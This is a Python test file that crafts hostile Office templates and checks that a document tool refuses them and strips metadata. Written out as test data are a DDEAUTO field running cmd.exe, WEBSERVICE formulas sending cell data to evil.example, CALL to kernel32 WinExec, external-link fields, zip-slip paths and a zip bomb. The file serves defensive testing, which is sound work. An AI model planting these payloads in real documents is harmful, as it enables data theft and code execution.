"""A template from outside is hostile input (template_lint): everything that fetches, runs or
hides something is refused by check-template and by every render, with the part and what to
do; the template's own metadata never reaches an output.

Every hostile template is made here from a bundled one (zip edits, openpyxl).
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from helpers import KEY, PEAK_PROBE
from yhdyspinta_docs.cli import main
from yhdyspinta_docs.errors import TemplateError
from yhdyspinta_docs.plan._model import PlanFile
from yhdyspinta_docs.word._check import check_template
from yhdyspinta_docs.word._lint import (
    MAX_TEMPLATE_BYTES,
    formula_problem,
    lint_template,
    scrub_package,
)

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ROOT / "templates"
PLAN = ROOT / "examples" / "keski-suomi" / "plan.yaml"
TEMPLATE_EXIT = 3

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT_DEFAULT_BIN = (b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                  b'officedocument.oleObject"/>')


# --- building templates --------------------------------------------------------------------------


Edit = Callable[[bytes], bytes] | bytes | None


def _rezip(src: bytes, out: Path, edits: dict[str, Edit]) -> Path:
    """`src` with each member of `edits` replaced (bytes), changed (function) or removed
    (None); members not in `src` are added."""
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w",
                                                                   zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            edit = edits.get(info.filename, lambda b: b)
            if edit is None:
                continue
            blob = zin.read(info.filename)
            z.writestr(info.filename, edit(blob) if callable(edit) else edit)
        for name, edit in edits.items():
            if name not in zin.namelist() and isinstance(edit, bytes):
                z.writestr(name, edit)
    return out


def _in_body(fragment: str) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        at = xml.rfind(b"<w:sectPr")
        return xml[:at] + fragment.encode() + xml[at:]
    return edit


def _add_rel(rel: str) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _add_ct(entry: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</Types>", entry + b"</Types>")


def _then(*edits: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        for e in edits:
            xml = e(xml)
        return xml
    return edit


FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
         '"preserve"> {0}</w:instrText></w:r><w:r><w:instrText xml:space="preserve">{1} '
         '"http://evil.example/x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
         '</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')

# case → (edits of decision.docx, part named in the message, words of the finding)
DOCX_CASES: dict[str, tuple[dict[str, Edit], str, str]] = {
    "linked-image": ({"word/_rels/document.xml.rels": _add_rel(
        f'<Relationship Id="rId90" Type="{REL}/image" Target="http://evil.example/p.png" '
        'TargetMode="External"/>')}, "word/_rels/document.xml.rels (rId90)",
        "a link of type 'image' to 'http://evil.example/p.png' outside the file"),
    "attached-template": ({"word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/attachedTemplate" Target="\\\\palvelin\\pohjat\\x.dotm" '
        'TargetMode="External"/></Relationships>').encode()},
        "word/_rels/settings.xml.rels (rId1)", "'attachedTemplate'"),
    "subdocument": ({"word/_rels/document.xml.rels": _add_rel(
        f'<Relationship Id="rId91" Type="{REL}/subDocument" Target="file:///C:/x.docx" '
        'TargetMode="External"/>')}, "word/_rels/document.xml.rels (rId91)", "'subDocument'"),
    "includetext-split-over-runs": ({"word/document.xml": _in_body(
        FIELD.format("INCLUDE", "TEXT"))}, "word/document.xml", "field code INCLUDETEXT"),
    "includepicture-in-header": ({"word/header1.xml": lambda x: x.replace(
        b"</w:hdr>", FIELD.format("INCLUDE", "PICTURE").encode() + b"</w:hdr>")},
        "word/header1.xml", "field code INCLUDEPICTURE"),
    "ddeauto-simple-field": ({"word/document.xml": _in_body(
        '<w:p><w:fldSimple w:instr=" ddeauto c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc'
        '&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')}, "word/document.xml",
        "field code DDEAUTO"),
    "dde": ({"word/document.xml": _in_body(FIELD.format("DD", "E x"))}, "word/document.xml",
            "field code DDE "),
    "link": ({"word/document.xml": _in_body(FIELD.format("LI", "NK Excel.Sheet.12"))},
             "word/document.xml", "field code LINK"),
    "import": ({"word/document.xml": _in_body(FIELD.format("IMP", "ORT"))}, "word/document.xml",
               "field code IMPORT"),
    "database": ({"word/document.xml": _in_body(FIELD.format("DATA", "BASE \\d"))},
                 "word/document.xml", "field code DATABASE"),
    "nested-include-inside-if": ({"word/document.xml": _in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 '
        '"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        ' INCLUDETEXT "x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '</w:p>')}, "word/document.xml", "field code INCLUDETEXT"),
    "macros": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really vba",
                "[Content_Types].xml": lambda x: x.replace(
                    b"wordprocessingml.document.main+xml",
                    b"ms-word.document.macroEnabled.main+xml")},
               "word/vbaProject.bin", "contains macros"),
    "ole-object": ({"word/document.xml": _in_body(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rId92"/>'
        '</w:object></w:r></w:p>'),
        "word/_rels/document.xml.rels": _add_rel(
            f'<Relationship Id="rId92" Type="{REL}/oleObject" '
            'Target="embeddings/oleObject1.bin"/>'),
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole",
        "[Content_Types].xml": _add_ct(CT_DEFAULT_BIN)},
        "word/document.xml", "embedded or linked object (OLE"),
    "embedded-part-without-a-link": ({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK"},
                                     "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                                     "is an embedded object"),
    "activex": ({"word/document.xml": _in_body(
        '<w:p><w:r><w:control r:id="rId93" w:name="CommandButton1"/></w:r></w:p>')},
        "word/document.xml", "an ActiveX control"),
    "altchunk": ({"word/document.xml": _in_body('<w:altChunk r:id="rId94"/>'),
                  "word/_rels/document.xml.rels": _add_rel(
                      f'<Relationship Id="rId94" Type="{REL}/aFChunk" Target="afchunk.mht"/>'),
                  "word/afchunk.mht": b"MIME-Version: 1.0"},
                 "word/_rels/document.xml.rels (rId94)", "imported document part (altChunk)"),
    "tracked-changes": ({"word/document.xml": _in_body(
        '<w:p><w:ins w:id="901" w:author="Matti" w:date="2026-01-01T00:00:00Z"><w:r><w:t>'
        'lisätty</w:t></w:r></w:ins><w:del w:id="902" w:author="Matti"><w:r><w:delText>pois'
        '</w:delText></w:r></w:del></w:p>')}, "word/document.xml",
        "2 tracked change(s); accept or reject them all"),
    "doctype-entities": ({"word/footnotes.xml": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
        b'&a;&a;">]><w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
        b'2006/main">&b;</w:footnotes>')}, "word/footnotes.xml",
        "document type declaration"),
    # docxtpl deleted the paragraphs after an unclosed tag up to the next '}}', in silence;
    # the paragraph is named as Word shows it, as the other findings of a template are
    "unclosed-tag": ({"word/document.xml": lambda x: x.replace(
        b"{{ title }}", b"{{ title }} {{ title ", 1)}, ": paragraph 6 (near '{{ title ')",
        "'{{' is not closed with '}}' in its paragraph; the render would delete everything"),
    "unclosed-block-in-header": ({"word/header2.xml": lambda x: x.replace(
        b"{{ body }}", b"{{ body }} {% if body ", 1)},
        ": header of section 1, paragraph 2 (near '{% if body {{ date }}')",
        "'{%' is not closed with '%}' in its paragraph"),
    # a member named like this was copied into every document made from the template
    "zip-slip-part": ({"../../../etc/cron.d/x": b"x"}, "'../../../etc/cron.d/x'",
                      "which points outside the package"),
    "absolute-part": ({"/tmp/x.xml": b"<x/>"}, "'/tmp/x.xml'",
                      "which points outside the package"),
    "backslash-part": ({"word\\..\\..\\x.bat": b"x"}, "'word\\\\..\\\\..\\\\x.bat'",
                       "which points outside the package"),
}


def _docx(tmp_path: Path, case: str) -> tuple[Path, str, str]:
    edits, part, finding = DOCX_CASES[case]
    path = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / f"{case}.docx", edits)
    return path, part, finding


def _matrix_wb(edit: Callable[[object], None]) -> bytes:
    wb = load_workbook(TEMPLATES / "matrix.xlsx")
    edit(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _cell(sheet: str, ref: str, value: str) -> Callable[[object], None]:
    def edit(wb: object) -> None:
        wb[sheet][ref] = value  # type: ignore[index]
    return edit


def _validation(wb: object) -> None:
    dv = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://evil.example"))')
    dv.add("D2")
    wb["Seuranta"].add_data_validation(dv)  # type: ignore[index]


def _conditional(wb: object) -> None:
    wb["Seuranta"].conditional_formatting.add("G2", FormulaRule(  # type: ignore[index]
        formula=['LEN(_xlfn.WEBSERVICE("http://evil.example/?"&$D2))>0']))


def _very_hidden(wb: object) -> None:
    wb.create_sheet("Salainen").sheet_state = "veryHidden"  # type: ignore[attr-defined]


def _name(name: str, formula: str) -> Callable[[object], None]:
    def edit(wb: object) -> None:
        wb.defined_names[name] = DefinedName(name, attr_text=formula)  # type: ignore[attr-defined]
    return edit


@dataclass(frozen=True)
class _Raw:
    """Zip edits of the bundled matrix.xlsx (for what openpyxl cannot write)."""

    edits: dict[str, Edit]


def _xlsx_raw(edits: dict[str, Edit]) -> _Raw:
    return _Raw(edits)


WB_RELS = "xl/_rels/workbook.xml.rels"
# case → (how to make it, part named, words of the finding)
XLSX_CASES: dict[str, tuple[Callable[[object], None] | _Raw, str, str]] = {
    "webservice-in-a-cell": (_cell("Seuranta", "K2",
                                   '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(D2))'),
                             "(Seuranta!K2)", "uses WEBSERVICE, which sends data"),
    "dde": (_cell("Ohjeet", "B1", "=cmd|' /C calc'!A0"), "(Ohjeet!B1)",
            "calls another program (DDE)"),
    "other-workbook": (_cell("Yhteenveto", "H1", "=[1]Taul1!A1*2"), "(Yhteenveto!H1)",
                       "refers to another workbook"),
    "other-workbook-by-path": (_cell("Yhteenveto", "H1", "='C:\\tmp\\[x.xlsx]Taul1'!A1"),
                               "(Yhteenveto!H1)", "refers to another workbook"),
    "hyperlink-function-outside": (_cell("Ohjeet", "B2",
                                         '=HYPERLINK("http://evil.example/?"&Seuranta!D2,"x")'),
                                   "(Ohjeet!B2)", "HYPERLINK to a place outside"),
    "unknown-function": (_cell("Ohjeet", "B3", '=RTD("x.server",,"a")'), "(Ohjeet!B3)",
                         "uses RTD, which takes data from another program"),
    "data-validation": (_validation, "(Seuranta!D2)", "uses WEBSERVICE"),
    "conditional-formatting": (_conditional, "(Seuranta!G2)", "uses WEBSERVICE"),
    "very-hidden-sheet": (_very_hidden, "xl/workbook.xml (sheet 'Salainen')",
                          "very hidden"),
    "auto-open": (_name("Auto_Open", "Ohjeet!$A$1"), "xl/workbook.xml (defined name "
                  "'Auto_Open')", "runs a macro"),
    "foreign-name": (_name("Laskuri", 'WEBSERVICE("http://evil.example")'),
                     "xl/workbook.xml (defined name 'Laskuri')",
                     "is not one of the template's own names"),
    "macros": (_xlsx_raw({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}), "xl/vbaProject.bin",
               "contains macros"),
    "macro-sheet": (_xlsx_raw({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"}),
                    "xl/macrosheets/sheet1.xml", "Excel 4.0 macro sheet"),
    "connections": (_xlsx_raw({
        "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/'
                              b'spreadsheetml/2006/main"><connection id="1" name="q"/>'
                              b'</connections>',
        WB_RELS: _add_rel(f'<Relationship Id="rId90" Type="{REL}/connections" '
                          'Target="connections.xml"/>')}),
        "xl/_rels/workbook.xml.rels (rId90)", "a data connection to outside the workbook"),
    "external-link": (_xlsx_raw({
        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.'
                                              b'openxmlformats.org/spreadsheetml/2006/main"/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{REL}/externalLinkPath" '
            'Target="file:///C:/x.xlsx" TargetMode="External"/></Relationships>').encode(),
        WB_RELS: _add_rel(f'<Relationship Id="rId91" Type="{REL}/externalLink" '
                          'Target="externalLinks/externalLink1.xml"/>')}),
        "xl/_rels/workbook.xml.rels (rId91)", "a link to another workbook"),
    "embedded-object": (_xlsx_raw({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
                        "xl/embeddings/oleObject1.bin", "is an embedded object"),
    "zip-slip-part": (_xlsx_raw({"../../x.xlsx": b"x"}), "'../../x.xlsx'",
                      "which points outside the package"),
}


def _xlsx(tmp_path: Path, case: str) -> tuple[Path, str, str]:
    make, part, finding = XLSX_CASES[case]
    path = tmp_path / f"{case}.xlsx"
    if isinstance(make, _Raw):
        _rezip((TEMPLATES / "matrix.xlsx").read_bytes(), path, make.edits)
    else:
        path.write_bytes(_matrix_wb(make))
    return path, part, finding


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(args)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _assert_refused(code: int, text: str, path: Path, part: str, finding: str) -> None:
    assert code == TEMPLATE_EXIT, text
    assert "Traceback" not in text
    lines = [ln for ln in text.splitlines() if finding in ln and part in ln]
    assert lines, f"{finding!r} in {part!r} not in:\n{text}"
    assert lines[0].startswith(f"{path.name}: "), lines[0]


# --- Word templates ------------------------------------------------------------------------------


@pytest.mark.parametrize("case", list(DOCX_CASES))
def test_hostile_word_template_is_refused_by_check_template(
        case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, part, finding = _docx(tmp_path, case)
    code, text = _run(["check-template", str(path), "--kind", "decision"], capsys)
    _assert_refused(code, text, path, part, finding)


@pytest.mark.parametrize("case", list(DOCX_CASES))
def test_hostile_word_template_is_refused_by_build(
        case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, part, finding = _docx(tmp_path, case)
    out = tmp_path / "out"
    code, text = _run(["build", str(PLAN), "--template", f"decision={path}", "--out", str(out),
                       "--drafts"], capsys)
    _assert_refused(code, text, path, part, finding)
    assert not out.exists() or not any(out.rglob("*"))


@pytest.mark.parametrize("case", ["linked-image", "includetext-split-over-runs", "macros",
                                  "tracked-changes"])
def test_every_render_lints_the_template_not_only_the_build(case: str, tmp_path: Path) -> None:
    from yhdyspinta_docs.word import WordTemplate

    path, part, finding = _docx(tmp_path, case)
    with pytest.raises(TemplateError, match=re.escape(finding)) as caught:
        WordTemplate(path)
    assert any(part in i.where for i in caught.value.issues)
    with pytest.raises(TemplateError, match=re.escape(finding)):
        WordTemplate(path.read_bytes())


def test_harmless_fields_and_external_hyperlinks_pass(tmp_path: Path) -> None:
    fields = ''.join(FIELD.format(a, b) for a, b in (("PA", "GE"), ("HYPER", "LINK")))
    path = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "ok.docx", {
        "word/document.xml": _in_body(fields + '<w:p><w:fldSimple w:instr=" NUMPAGES ">'
                                      '<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'),
        "word/_rels/document.xml.rels": _add_rel(
            f'<Relationship Id="rId95" Type="{REL}/hyperlink" Target="https://soste.fi" '
            'TargetMode="External"/>')})
    assert lint_template(path.read_bytes(), path.name).issues == []
    assert check_template(path, "decision") == []


def test_tags_closed_in_their_paragraph_and_raw_text_pass(tmp_path: Path) -> None:
    path = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "ok.docx", {
        "word/document.xml": lambda x: x.replace(b"{{ title }}", b"{{ title }}{% raw %} {{ "
                                                 b"{% endraw %}", 1)})
    assert lint_template(path.read_bytes(), path.name).issues == []
    closed_twice = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "j.docx", {
        "word/document.xml": lambda x: x.replace(b"{{ title }}", b"{{ title }{{ title }}", 1)})
    assert lint_template(closed_twice.read_bytes(), closed_twice.name).issues == []


def test_zip_bomb_is_refused_before_parsing_in_bounded_time_and_memory(tmp_path: Path) -> None:
    bomb = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "bomb.docx", {
        "word/document.xml": lambda x: x.replace(b"<w:body>", b"<w:body>" + b" " * (
            40 * 1024 * 1024))})
    assert bomb.stat().st_size < 1024 * 1024
    probe = (PEAK_PROBE + "import sys\nfrom yhdyspinta_docs.cli import main\n"
             f"code = main(['check-template', {str(bomb)!r}, '--kind', 'decision'])\n"
             "print('maxrss', _peak_kib())\n"
             "sys.exit(code)\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          timeout=30, env=env, check=False)
    assert done.returncode == TEMPLATE_EXIT, done.stderr
    assert "bomb.docx: word/document.xml: unpacks to 40 MB" in done.stderr
    maxrss_kb = int(done.stdout.split("maxrss")[1])
    assert maxrss_kb < 300 * 1024


_PARAGRAPH = "<w:p><w:r><w:t>Tavallinen kappale ilman mitään erikoista.</w:t></w:r></w:p>".encode()
HEAVY = {
    # docxtpl's tag patterns took 420 MB for one text of 5 MB and 400 MB for an element with
    # 300,000 attributes; a document part of 10 MB took 38 s to build
    "long-text": (lambda x: x.replace(b"{{ title }}", b"{{ title }} " + b"a" * 5_000_000, 1),
                  "word/document.xml: a text of 5,000,0"),
    "many-attributes": (lambda x: x.replace(b"<w:body>", b"<w:body><w:p " + b" ".join(
        b'a%d="1"' % i for i in range(300_000)) + b"/>", 1),
        "word/document.xml: an element <p> with 300,000 attributes"),
    "big-part": (lambda x: x.replace(b"<w:body>", b"<w:body>" + _PARAGRAPH * 100_000, 1),
                 "word/document.xml: is 7.4 MB of XML; a part of a template is at most 5 MB"),
}


@pytest.mark.parametrize("case", list(HEAVY))
def test_heavy_xml_is_refused_in_bounded_time_and_memory(case: str, tmp_path: Path) -> None:
    edit, message = HEAVY[case]
    heavy = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "raskas.docx",
                   {"word/document.xml": edit})
    probe = (PEAK_PROBE + "import sys\nfrom yhdyspinta_docs.cli import main\n"
             f"code = main(['check-template', {str(heavy)!r}, '--kind', 'decision'])\n"
             "print('maxrss', _peak_kib())\n"
             "sys.exit(code)\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          timeout=30, env=env, check=False)
    assert done.returncode == TEMPLATE_EXIT, done.stderr
    assert f"raskas.docx: {message}" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert int(done.stdout.split("maxrss")[1]) < 300 * 1024


def test_too_many_parts_and_too_big_a_file_are_refused(tmp_path: Path) -> None:
    many = _rezip((TEMPLATES / "decision.docx").read_bytes(), tmp_path / "many.docx",
                  {f"word/media/x{i}.png": b"" for i in range(1001)})
    assert "has 1015 parts; a template has far fewer" in str(check_template(many)[0])
    big = tmp_path / "big.docx"
    with big.open("wb") as fh:
        fh.truncate(MAX_TEMPLATE_BYTES + 1)
    [issue] = check_template(big, "decision")
    assert issue.where == "big.docx" and "a template is at most 20 MB" in issue.what


# --- matrix templates ----------------------------------------------------------------------------


def test_a_library_message_over_several_lines_is_one_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """openpyxl's message for a sheet it cannot read spans three lines; each problem is one."""
    path = _rezip((TEMPLATES / "matrix.xlsx").read_bytes(), tmp_path / "nan.xlsx", {
        "xl/worksheets/sheet1.xml": lambda x: x.replace(
            b"</sheetData>", b'<row r="90"><c r="A90"><v>NaN</v></c></row></sheetData>', 1)})
    for args in (["check-template", str(path)],
                 ["build", str(PLAN), "--template", f"matrix={path}", "--drafts", "--out",
                  str(tmp_path / "out"), "--key", str(tmp_path / "k.key")]):
        code, text = _run(args, capsys)
        assert code == TEMPLATE_EXIT, text
        [line] = [ln for ln in text.splitlines() if ln.startswith("nan.xlsx: ")]
        assert "could not read worksheets from None. This is most probably because" in line
        assert "Traceback" not in text


@pytest.mark.parametrize("case", list(XLSX_CASES))
def test_hostile_matrix_template_is_refused_by_check_template(
        case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, part, finding = _xlsx(tmp_path, case)
    code, text = _run(["check-template", str(path)], capsys)
    _assert_refused(code, text, path, part, finding)


@pytest.mark.parametrize("case", list(XLSX_CASES))
def test_hostile_matrix_template_is_refused_by_build(
        case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, part, finding = _xlsx(tmp_path, case)
    out = tmp_path / "out"
    code, text = _run(["build", str(PLAN), "--template", f"matrix={path}", "--out", str(out),
                       "--drafts"], capsys)
    _assert_refused(code, text, path, part, finding)
    assert not out.exists() or not any(out.rglob("*"))


def test_write_matrix_lints_its_template(tmp_path: Path, example_plan: PlanFile) -> None:
    from yhdyspinta_docs.matrix._write import write_matrix

    path, _part, finding = _xlsx(tmp_path, "webservice-in-a-cell")
    with pytest.raises(TemplateError, match=re.escape(finding)):
        write_matrix(example_plan, key=KEY, template=path)


def test_allowed_formulas_and_names_pass(tmp_path: Path) -> None:
    def edit(wb: object) -> None:
        ws = wb["Ohjeet"]  # type: ignore[index]
        ws["B1"] = '=IFERROR(COUNTIFS(Seuranta!F:F,"Valmis")/ROWS(Seuranta!F2:F9),0)'
        ws["B2"] = '=HYPERLINK("#Seuranta!A1","Seurantaan")'
        ws["B3"] = '=TEXT(TODAY(),"d.m.yyyy")&" "&UPPER(LEFT(Seuranta!B2,3))'
        ws["B4"] = "=SUM(Seuranta[Tunniste])"
    path = tmp_path / "ok.xlsx"
    path.write_bytes(_matrix_wb(edit))
    assert check_template(path) == []


@pytest.mark.parametrize(("formula", "expected"), [
    ('_xlfn.WEBSERVICE("http://x")', "uses WEBSERVICE"),
    ('FILTERXML(A1,"//a")', "uses FILTERXML"),
    ('INDIRECT("[x.xlsx]S!A1")', "uses INDIRECT"),
    ("_xludf.OMA(1)", "a function of a macro or an add-in"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "uses CALL, which runs code"),
    ("[1]!Nimi", "refers to another workbook"),
    ("cmd|'/c calc'!A0", "calls another program (DDE)"),
    ('SUM(A1:A3)+LEN("a|b")', None),
    ("Tilat", None),
])
def test_formula_allow_list(formula: str, expected: str | None) -> None:
    problem = formula_problem(formula)
    assert (problem is None) if expected is None else (expected in (problem or ""))


# --- bundled templates ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["decision.docx", "plan.docx", "report.docx", "matrix.xlsx"])
def test_bundled_templates_pass_and_are_not_changed(name: str) -> None:
    data = (TEMPLATES / name).read_bytes()
    assert lint_template(data, name).issues == []
    assert scrub_package(data) == data


# --- metadata is never carried into an output ----------------------------------------------------

SECRETS = ["Kommentoija-Kaija", "KK-INIT", "Salainen-kommentti-0401234567", "Pirkko-Persoona",
           "pirkko@example.fi", "Oma-tunniste-98765", "Kuvaus-0501112233", "TUNNISTE-4242",
           "Luonnos-XYZ", "v-77-versio", "Yritys-Oy-7777", "Manageri-Jaana", "00ABCDEF",
           "Muuttuja-31337", "Kategoria-1111", "Otsikko-HLINK-2222"]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def _word_with_metadata(src: Path, out: Path) -> Path:
    comments = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:comments xmlns:w='
                f'"{W}"><w:comment w:id="7" w:author="Kommentoija-Kaija" w:initials="KK-INIT">'
                '<w:p><w:r><w:t>Salainen-kommentti-0401234567</w:t></w:r></w:p></w:comment>'
                '</w:comments>')
    extended = (f'<w15:commentsEx xmlns:w15="{W15}"><w15:commentEx w15:paraId="1A2B3C4D" '
                'w15:done="0"/></w15:commentsEx>')
    people = (f'<w15:people xmlns:w15="{W15}"><w15:person w15:author="Pirkko-Persoona">'
              '<w15:presenceInfo w15:providerId="AD" w15:userId="pirkko@example.fi"/>'
              '</w15:person></w15:people>')
    custom = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
              'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
              '2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" '
              'pid="2" name="Omistaja"><vt:lpwstr>Oma-tunniste-98765</vt:lpwstr></property>'
              '</Properties>')
    anchored = ('<w:p w:rsidR="00ABCDEF" w:rsidRDefault="00ABCDEF"><w:commentRangeStart '
                'w:id="7"/><w:r><w:t>Kommentoitu kappale pysyy.</w:t></w:r><w:commentRangeEnd'
                ' w:id="7"/><w:r><w:rPr><w:rStyle w:val="Kommentinviite"/></w:rPr>'
                '<w:commentReference w:id="7"/></w:r></w:p>')
    ct = "application/vnd.openxmlformats-officedocument"
    core_extra = ("<dc:description>Kuvaus-0501112233</dc:description>"
                  "<dc:identifier>TUNNISTE-4242</dc:identifier>"
                  "<cp:contentStatus>Luonnos-XYZ</cp:contentStatus><cp:version>v-77-versio"
                  "</cp:version><cp:category>Kategoria-1111</cp:category>")
    return _rezip(src.read_bytes(), out, {
        "word/comments.xml": comments.encode(),
        "word/commentsExtended.xml": extended.encode(),
        "word/people.xml": people.encode(),
        "docProps/custom.xml": custom.encode(),
        "word/document.xml": _in_body(anchored),
        "word/settings.xml": lambda x: x.replace(
            b"<w:decimalSymbol", b'<w:docVars><w:docVar w:name="v" w:val="Muuttuja-31337"/>'
            b'</w:docVars><w:rsids><w:rsidRoot w:val="00ABCDEF"/><w:rsid w:val="00ABCDEF"/>'
            b"</w:rsids><w:decimalSymbol"),
        "docProps/core.xml": lambda x: re.sub(rb"<dc:description>[^<]*</dc:description>",
                                              core_extra.encode(), x),
        "docProps/app.xml": lambda x: x.replace(
            b"</Properties>", b"<Manager>Manageri-Jaana</Manager><Company>Yritys-Oy-7777"
            b"</Company><HyperlinkBase>http://Otsikko-HLINK-2222/</HyperlinkBase></Properties>"),
        "word/_rels/document.xml.rels": _add_rel(
            f'<Relationship Id="rId80" Type="{REL}/comments" Target="comments.xml"/>'
            '<Relationship Id="rId81" Type="http://schemas.microsoft.com/office/2011/'
            'relationships/commentsExtended" Target="commentsExtended.xml"/>'
            '<Relationship Id="rId82" Type="http://schemas.microsoft.com/office/2011/'
            'relationships/people" Target="people.xml"/>'),
        "_rels/.rels": _add_rel(f'<Relationship Id="rId90" Type="{REL}/custom-properties" '
                                'Target="docProps/custom.xml"/>'),
        "[Content_Types].xml": _add_ct((
            f'<Override PartName="/word/comments.xml" ContentType="{ct}.wordprocessingml.'
            'comments+xml"/><Override PartName="/word/commentsExtended.xml" ContentType='
            f'"{ct}.wordprocessingml.commentsExtended+xml"/><Override PartName="/word/'
            f'people.xml" ContentType="{ct}.wordprocessingml.people+xml"/><Override PartName='
            f'"/docProps/custom.xml" ContentType="{ct}.custom-properties+xml"/>').encode()),
    })


def _matrix_with_metadata(out: Path) -> Path:
    def edit(wb: object) -> None:
        wb["Ohjeet"]["A1"].comment = Comment(  # type: ignore[index]
            "Salainen-kommentti-0401234567", "Kommentoija-Kaija")
        wb.custom_doc_props.append(  # type: ignore[attr-defined]
            StringProperty(name="Omistaja", value="Oma-tunniste-98765"))
        props = wb.properties  # type: ignore[attr-defined]
        props.description, props.identifier = "Kuvaus-0501112233", "TUNNISTE-4242"
        props.contentStatus, props.version = "Luonnos-XYZ", "v-77-versio"
        props.category = "Kategoria-1111"
    data = _matrix_wb(edit)
    person = (b'<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/'
              b'threadedcomments"><person displayName="Pirkko-Persoona" id="{1}" '
              b'userId="pirkko@example.fi" providerId="AD"/></personList>')
    return _rezip(data, out, {
        "docProps/app.xml": lambda x: x.replace(
            b"</Properties>", b"<Manager>Manageri-Jaana</Manager><Company>Yritys-Oy-7777"
            b"</Company></Properties>"),
        "xl/persons/person.xml": person,
        WB_RELS: _add_rel('<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/'
                          '2017/10/relationships/person" Target="persons/person.xml"/>'),
    })


def _parts_containing(path: Path, needles: list[str]) -> list[str]:
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            blob = z.read(name)
            found += [f"{path.name}:{name}:{n}" for n in needles if n.encode() in blob]
    return found


def test_template_metadata_never_reaches_an_output(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
